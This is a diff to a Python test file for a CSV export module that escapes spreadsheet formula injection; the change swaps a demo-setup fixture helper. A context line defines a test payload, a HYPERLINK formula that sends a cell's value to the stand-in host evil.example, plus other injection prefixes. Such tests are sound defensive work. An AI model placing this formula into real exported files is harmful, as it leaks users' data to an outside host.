@@ -14,13 +14,14 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from meedoen_data.csvsafe import csv_cell, csv_writer
 from meedoen_data.disclosure import Cell, Dimension, Rules, Table, publication_protect, release_csv
-from tests.helpers import meedoen_as, meedoen_json, passwords
+from tests.helpers import demo_copy, meedoen_as, passwords
 
 LINK = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
 STARTS = [LINK, "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -57,7 +58,7 @@ def test_a_published_table_with_a_formula_label() -> None:
 @pytest.fixture(scope="module")
 def demo(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     home = str(tmp_path_factory.mktemp("csv") / "demo")
-    result = meedoen_json("demo", "--no-serve", "--home", home)
+    result = demo_copy(Path(home))
     return {"home": home, "activity": str(result["activity"]["id"]), **passwords(result)}
 
 
